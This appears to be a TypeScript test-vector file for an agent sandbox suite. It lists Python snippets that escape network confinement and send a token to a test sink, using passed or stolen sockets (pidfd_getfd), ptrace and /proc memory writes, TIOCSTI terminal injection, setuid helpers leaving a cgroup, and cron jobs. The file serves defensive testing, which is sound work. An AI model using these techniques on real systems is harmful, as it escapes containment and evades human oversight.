/** Ways round by sockets and processes of others: what was opened elsewhere, and who may be made to act. */
import type { Vector } from "../vector.ts";

const HELPER = {
  limit: "a helper outside of the agent",
  remedy: "no untrusted local processes; folders of their own for agents",
};
const passed = (kind: string, use: string) => `
import array
path = T["shared"] + "/" + T["token"]
step("socket")
own = socket.socket(socket.AF_UNIX)
own.bind(path)
os.chmod(path, 0o777)
own.listen()
ask("local", do="pass", path=path, kind="${kind}", target=[T["sink4"], T["port"]["sink"]])
step("accept")
own.settimeout(2)
peer, _ = own.accept()
step("receive")
_, ancillary, _, _ = peer.recvmsg(10, 100)
os.unlink(path)
sock = socket.socket(fileno=array.array("i", ancillary[0][2])[0])
${use}`;

export const DESCRIPTORS: readonly Vector[] = [
  {
    name: "passed-connected",
    what: "is handed a connected socket by an outsider (SCM_RIGHTS)",
    attack: passed("connected", "pour(sock)"),
    closedBy: [],
    stated: [HELPER],
  },
  {
    name: "passed-unconnected",
    what: "is handed a socket that is not connected yet, and connects it",
    attack: passed(
      "unconnected",
      `
step("connect")
sock.connect((T["sink4"], T["port"]["sink"]))
pour(sock)`,
    ),
    closedBy: ["unlisted"],
  },
  {
    name: "passed-datagram",
    what: "is handed a datagram socket and sends with it",
    attack: passed(
      "udp",
      `
step("sendto")
sock.sendto(TOKEN, (T["sink4"], T["port"]["sink"]))`,
    ),
    closedBy: ["unlisted"],
  },
  {
    name: "inherited-connected",
    what: "is started with a connected socket open",
    attack: `
step("inherited")
sock = socket.socket(fileno=9)
pour(sock)`,
    start: "inherited-socket",
    places: ["root", "user"],
    closedBy: ["closed-descriptors", "RUN_SOCKETS_OPEN"],
  },
  {
    name: "opened-before-tag",
    what: "connects before it is tagged, sends afterwards",
    attack: `
step("connect")
sock = stream(T["sink4"])
sock.connect((T["sink4"], T["port"]["sink"]))
ask("suite", do="tag")
sys.stdin.readline()
pour(sock)`,
    start: "before-tag",
    places: ["root", "user"],
    closedBy: ["reset", "not-admitted", "EPIPE"],
  },
  {
    name: "opened-before-tag-datagram",
    what: "connects a datagram socket before it is tagged, sends afterwards",
    attack: `
sock = datagram(T["sink4"])
sock.connect((T["sink4"], T["port"]["sink"]))
ask("suite", do="tag")
sys.stdin.readline()
step("send")
sock.send(TOKEN)
time.sleep(0.1)
sock.send(TOKEN)`,
    start: "before-tag",
    places: ["root", "user"],
    closedBy: ["reset", "not-admitted", "EDESTADDRREQ"],
  },
  {
    name: "stolen-socket",
    what: "takes a connected socket out of an outsider of the same user by pidfd_getfd",
    attack: `
step("pidfd_open")
handle = call(434, T["outsider"]["pid"], 0)
step("pidfd_getfd")
sock = socket.socket(fileno=call(438, handle, T["outsider"]["fd"], 0))
step("send")
sock.sendall(TOKEN)
time.sleep(0.2)`,
    closedBy: ["scope", "capability"],
    scoped: true,
    capability: "SYS_PTRACE",
    places: ["root", "user", "child"],
  },
  {
    name: "outsider-memory",
    what: "writes into the memory of an outsider of the same user, who then sends it",
    attack: `
step("open mem")
with open(f"/proc/{T['outsider']['pid']}/mem", "r+b", buffering=0) as memory:
    memory.seek(T["outsider"]["bufferAddress"])
    step("write mem")
    memory.write(TOKEN)
time.sleep(0.3)`,
    closedBy: ["scope", "capability"],
    scoped: true,
    capability: "SYS_PTRACE",
    places: ["root", "user", "child"],
  },
  {
    name: "outsider-process-write",
    what: "the same by process_vm_writev",
    attack: `
data = ctypes.create_string_buffer(TOKEN)
mine = (ctypes.c_uint64 * 2)(ctypes.addressof(data), len(TOKEN))
theirs = (ctypes.c_uint64 * 2)(T["outsider"]["bufferAddress"], len(TOKEN))
step("process_vm_writev")
call(311, T["outsider"]["pid"], mine, 1, theirs, 1, 0)
time.sleep(0.3)`,
    closedBy: ["scope", "capability"],
    scoped: true,
    capability: "SYS_PTRACE",
    places: ["root", "user", "child"],
  },
  {
    name: "outsider-traced",
    what: "attaches to an outsider of the same user by ptrace and writes into it",
    attack: `
step("ptrace")
call(101, 0x4206, T["outsider"]["pid"], 0, 0)
call(101, 0x4207, T["outsider"]["pid"], 0, 0)
os.waitpid(T["outsider"]["pid"], 0x40000000)
for at in range(0, len(TOKEN), 8):
    word = int.from_bytes(TOKEN[at : at + 8].ljust(8, b"\\0"), "little")
    call(101, 5, T["outsider"]["pid"], T["outsider"]["bufferAddress"] + at, word)
call(101, 17, T["outsider"]["pid"], 0, 0)
time.sleep(0.3)`,
    closedBy: ["scope", "capability"],
    scoped: true,
    capability: "SYS_PTRACE",
    places: ["root", "user", "child"],
  },
  {
    name: "terminal-input",
    what: "types a command into the terminal that it shares with its caller (TIOCSTI)",
    attack: `
step("TIOCSTI")
for byte in b" " + TOKEN + b"\\n":
    fcntl.ioctl(0, 0x5412, bytes([byte]))`,
    start: "terminal",
    places: ["root", "user"],
    closedBy: ["seccomp"],
  },
  {
    name: "setuid-program",
    what: "runs a setuid root program, as sudo is, that connects for it",
    attack: `
import subprocess
step("setuid")
script = "import socket; s = socket.create_connection(('%s', %d), 2); s.sendall(b'%s'); s.shutdown(1); s.recv(1)"
done = subprocess.run(
    [T["programs"] + "/setuid-helper", "/usr/bin/python3", "-I", "-c", script % (T["sink4"], T["port"]["sink"], T["token"])],
    stderr=subprocess.PIPE)
if done.returncode:
    raise OSError(errno.EPERM, "the helper failed")`,
    places: ["user"],
    closedBy: ["unlisted"],
  },
  {
    name: "setuid-leaves",
    what: "runs a setuid root program to leave its cgroup, then connects",
    attack: `
import subprocess
step("setuid")
script = "open('%s/cgroup.procs', 'w').write('%d')" % (T["cgroupRoot"], os.getpid())
done = subprocess.run([T["programs"] + "/setuid-helper", "/usr/bin/python3", "-I", "-c", script], stderr=subprocess.PIPE)
if b"Read-only" in done.stderr:
    raise OSError(errno.EROFS, "read-only")
if done.returncode:
    raise OSError(errno.ENOENT, done.stderr.decode()[-80:])
dial(T["sink4"], T["port"]["sink"])`,
    places: ["user"],
    closedBy: ["read-only", "hidden"],
  },
  {
    name: "scheduled-job",
    what: "leaves a file for cron or at, whose daemon runs it outside of the agent",
    attack: `
script = "/usr/bin/python3 -I -c \\"import socket; s = socket.create_connection(('%s', %d), 2); s.sendall(b'%s'); s.shutdown(1); s.recv(1)\\""
name = T["spool"] + "/" + T["token"]
step("write")
with open(name, "w") as file:
    file.write(script % (T["sink4"], T["port"]["sink"], T["token"]))
os.rename(name, name + ".job")
time.sleep(1)`,
    places: ["root", "user", "child"],
    closedBy: [],
    stated: [
      {
        limit: "files that others run",
        remedy: "users without crontab and at (cron.deny, at.deny); agents that are not root; containers",
      },
    ],
  },
];
